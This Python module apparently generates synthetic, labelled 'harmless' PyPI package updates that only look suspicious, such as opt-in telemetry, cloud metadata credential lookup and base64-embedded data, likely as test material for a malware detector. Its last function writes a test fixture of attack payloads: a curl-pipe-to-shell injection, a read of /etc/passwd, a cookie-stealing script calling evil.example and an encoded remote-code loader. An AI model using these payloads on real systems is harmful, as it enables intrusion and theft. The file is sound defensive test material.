"""PyPI: harmless updates that look suspicious."""

import base64
import json
import zlib

from corpus.heldout.hiding import png
from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, harmless


@harmless("gradkit", "wheel", "telemetry that is asked for")
def grad_telemetry_opt_in(update: Update) -> None:
    code = r'''
"""Anonymous counts of features, only for those who said yes (`gradkit telemetry on`)."""

import json
import os
import platform
import threading
import urllib.request

from .. import __version__
from ..hub import model_path

ENDPOINT = "https://stats.gradkit.example/v1/events"


def enabled():
    if os.environ.get("DO_NOT_TRACK") or os.environ.get("CI"):
        return False
    flag = model_path("telemetry.json")
    return flag.exists() and json.loads(flag.read_text()).get("enabled") is True


def count(feature):
    if not enabled():
        return
    event = {"feature": feature, "version": __version__, "python": platform.python_version(), "system": platform.system()}
    request = urllib.request.Request(ENDPOINT, json.dumps(event).encode(), {"Content-Type": "application/json"})
    threading.Thread(target=_send, args=(request,), daemon=True).start()


def _send(request):
    try:
        urllib.request.urlopen(request, timeout=2).close()
    except OSError:
        pass
'''
    update.add("gradkit/utils/telemetry.py", fill(code))
    update.after("gradkit/engine/trainer.py", '        run("on_start", self)\n', '        count("fit")\n')
    update.after(
        "gradkit/engine/trainer.py", "from ..utils.callbacks import run\n", "from ..utils.telemetry import count\n"
    )


@harmless("bucketcat", "wheel", "reads credentials")
def cat_profiles_of_others(update: Update) -> None:
    code = r"""


def from_netrc(host, path="~/.netrc"):
    '''Read a key and its secret from a netrc file, as curl does.'''
    import netrc

    path = Path(path).expanduser()
    if not path.exists():
        return None
    found = netrc.netrc(str(path)).authenticators(host)
    return Credentials(found[0], found[2]) if found else None


def from_metadata(address="http://169.254.169.254", timeout=1):
    '''Ask the machine's metadata service for the keys of its role; only if asked (`profile="instance"`).'''
    import json
    import urllib.request

    base = address + "/latest/meta-data/iam/security-credentials/"
    with urllib.request.urlopen(base, timeout=timeout) as answer:
        role = answer.read().decode().strip()
    with urllib.request.urlopen(base + role, timeout=timeout) as answer:
        found = json.load(answer)
    return Credentials(found["AccessKeyId"], found["SecretAccessKey"], found["Token"])
"""
    update.append("bucketcat/auth.py", code)


@harmless("bucketcat", "wheel", "uses a key ring")
def cat_key_ring(update: Update) -> None:
    code = r'''
"""Secrets in the system's key ring, if `keyring` is there."""

try:
    import keyring
except ImportError:
    keyring = None

from .auth import CredentialError, Credentials

SERVICE = "bucketcat"


def save(profile, credentials):
    if keyring is None:
        raise CredentialError("install bucketcat[keyring]")
    keyring.set_password(SERVICE, profile + ":key", credentials.key)
    keyring.set_password(SERVICE, profile + ":secret", credentials.secret)


def load(profile):
    if keyring is None:
        return None
    key = keyring.get_password(SERVICE, profile + ":key")
    secret = keyring.get_password(SERVICE, profile + ":secret")
    return Credentials(key, secret) if key and secret else None
'''
    update.add("bucketcat/ring.py", fill(code))
    update.after("bucketcat/__init__.py", "from .client import Store\n", "from . import ring\n")
    update.requires("keyring>=24; extra == 'keyring'")


@harmless("shipyard-cli", "wheel", "runs programs")
def ship_doctor_command(update: Update) -> None:
    code = r'''
"""`shipyard doctor`: is everything there that a deploy needs?"""

import os
import platform
import shutil
import subprocess
from pathlib import Path

WANTED = ("git", "ssh", "rsync")


def version_of(program):
    flag = "-V" if program == "ssh" else "--version"
    done = subprocess.run([program, flag], capture_output=True, text=True, check=False)
    return (done.stdout or done.stderr).splitlines()[0]


def report():
    yield "system", platform.platform()
    yield "user", os.environ.get("USER", "?")
    for program in WANTED:
        yield program, version_of(program) if shutil.which(program) else "missing"
    keys = sorted(path.name for path in Path("~/.ssh").expanduser().glob("*.pub"))
    yield "public keys", ", ".join(keys) or "none"


def main():
    for name, value in report():
        print("%-12s %s" % (name, value))
'''
    update.add("shipyard/doctor.py", fill(code))
    update.replace(
        "shipyard/cli.py",
        '    commands.add_parser("targets", help="list targets")\n',
        '    commands.add_parser("targets", help="list targets")\n    commands.add_parser("doctor", help="check the programs a deploy needs")\n',
    )
    update.replace(
        "shipyard/cli.py",
        "    config = load(args.config)\n",
        '    if args.command == "doctor":\n        from .doctor import main as doctor\n\n        return doctor()\n    config = load(args.config)\n',
    )


@harmless("shipyard-cli", "wheel", "a notification by a hook")
def ship_slack_hook(update: Update) -> None:
    code = r'''
"""Tells a channel that a deploy is done; the address stands in the user's own configuration."""

import getpass
import json
import socket
import urllib.request


def notify(hook, target, revision):
    if not hook:
        return
    text = "%s deployed %s to %s from %s" % (getpass.getuser(), revision, target, socket.gethostname())
    body = json.dumps({"text": text}).encode()
    request = urllib.request.Request(hook, body, {"Content-Type": "application/json"})
    urllib.request.urlopen(request, timeout=10).close()
'''
    update.add("shipyard/notify.py", fill(code))
    update.replace(
        "shipyard/deploy.py",
        "                subprocess.run(command, check=True)\n        return 0\n",
        '                subprocess.run(command, check=True)\n        if not self.dry_run:\n            notify(self.target.get("notify"), self.target["host"], self.revision)\n        return 0\n',
    )
    update.replace("shipyard/deploy.py", "import subprocess\n", "import subprocess\n\nfrom .notify import notify\n")


@harmless("shipyard-cli", "sdist", "removes folders")
def ship_prune_releases(update: Update) -> None:
    code = r"""


def prune(root, keep=5):
    '''Remove all but the newest releases of a local target.'''
    import shutil

    folders = sorted((Path(root) / "releases").iterdir(), key=lambda one: one.stat().st_mtime, reverse=True)
    for folder in folders[keep:]:
        log.info("removing %s", folder)
        shutil.rmtree(folder)
    return folders[:keep]
"""
    update.append("shipyard/deploy.py", code)
    update.replace("shipyard/deploy.py", "import subprocess\n", "import subprocess\nfrom pathlib import Path\n")


@harmless("speedsum", "sdist", "compiles at install")
def sum_optional_extension(update: Update) -> None:
    code = r"""
import subprocess
import sys

from setuptools import Extension
from setuptools.command.build_ext import build_ext


class OptionalBuild(build_ext):
    '''Builds the C part, and goes on without it where there is no compiler.'''

    def run(self):
        try:
            flags = subprocess.check_output(["pkg-config", "--cflags", "zlib"], text=True).split()
        except (OSError, subprocess.CalledProcessError):
            flags = []
        for extension in self.extensions:
            extension.extra_compile_args += flags
        try:
            build_ext.run(self)
        except Exception as error:
            print("no C part: %s" % error, file=sys.stderr)

"""
    update.after("setup.py", "from setuptools import find_packages, setup\n", fill(code) + "\n")
    update.replace(
        "setup.py",
        '    python_requires=">=3.8",\n',
        '    python_requires=">=3.8",\n    ext_modules=[Extension("speedsum._fast", ["src/fast.c"])],\n    cmdclass={"build_ext": OptionalBuild},\n',
    )
    update.add(
        "src/fast.c",
        '#include <Python.h>\n\nstatic struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "_fast", NULL, -1, NULL};\n\nPyMODINIT_FUNC PyInit__fast(void)\n{\n    return PyModule_Create(&module);\n}\n',
    )


@harmless("tabula", "wheel", "base64 of an image")
def tabula_embedded_logo(update: Update) -> None:
    raw = base64.b64encode(png(32, 32, b"", update.random)).decode()
    code = f'''
"""HTML, with a logo in it."""

import base64
import html

LOGO = "{raw}"


def logo():
    return base64.b64decode(LOGO)


def page(rows):
    body = "".join("<tr>%s</tr>" % "".join("<td>%s</td>" % html.escape(str(cell)) for cell in row) for row in rows)
    return '<img src="data:image/png;base64,%s"><table>%s</table>' % (LOGO, body)
'''
    update.add("tabula/page.py", fill(code))


@harmless("chronofmt", "wheel", "compressed data in code")
def chrono_compressed_table(update: Update) -> None:
    table = {f"Zone/{at:03d}": at * 900 - 43200 for at in range(96)}
    packed = base64.b85encode(zlib.compress(json.dumps(table).encode())).decode()
    code = f'''
"""Offsets of zones, compressed; made by tools/zones.py."""

import base64
import functools
import json
import zlib

_DATA = {packed!r}


@functools.lru_cache(maxsize=1)
def offsets():
    return json.loads(zlib.decompress(base64.b85decode(_DATA)))


def offset(zone):
    return offsets()[zone]
'''
    update.add("chronofmt/zones.py", fill(code))


@harmless("authgate", "wheel", "ciphers and keys")
def gate_sealed_cookies(update: Update) -> None:
    code = r'''
"""Cookies that only the server can read."""

import base64
import hashlib
import json

from cryptography.fernet import Fernet, InvalidToken


class Sealed:
    def __init__(self, secret):
        self._fernet = Fernet(base64.urlsafe_b64encode(hashlib.sha256(secret.encode()).digest()))

    def seal(self, value):
        return self._fernet.encrypt(json.dumps(value).encode()).decode("ascii")

    def open(self, text, age=3600):
        try:
            return json.loads(self._fernet.decrypt(text.encode("ascii"), ttl=age))
        except InvalidToken:
            return None
'''
    update.add("authgate/cookies.py", fill(code))
    update.append("authgate/__init__.py", "from .cookies import Sealed  # noqa: E402")
    update.requires("cryptography>=41")


@harmless("authgate", "sdist", "payloads in tests")
def gate_attack_fixtures(update: Update) -> None:
    code = r'''
"""What must not get through."""

import base64

import pytest

from authgate import TokenError, verify

EVIL = [
    "eyJhbGciOiJub25lIn0." + base64.urlsafe_b64encode(b'{"sub":"admin"}').decode() + ".",
    "'; import os; os.system('curl http://192.0.2.7/x | sh') #",
    "__import__('os').popen('cat /etc/passwd').read()",
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    base64.b64encode(b"exec(__import__('urllib.request').request.urlopen('http://192.0.2.7/p').read())").decode(),
]


@pytest.mark.parametrize("token", EVIL)
def test_refused(token):
    with pytest.raises((TokenError, ValueError)):
        verify(token, "key")
'''
    update.add("tests/test_attacks.py", fill(code))
